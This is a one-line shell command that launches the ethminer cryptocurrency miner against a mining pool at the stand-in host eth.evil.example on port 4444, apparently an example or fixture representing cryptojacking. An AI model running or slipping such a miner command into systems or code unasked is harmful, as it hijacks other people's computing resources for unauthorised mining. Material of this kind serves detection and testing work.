ethminer -P stratum1+tcp://0xabc.worker@eth.evil.example:4444
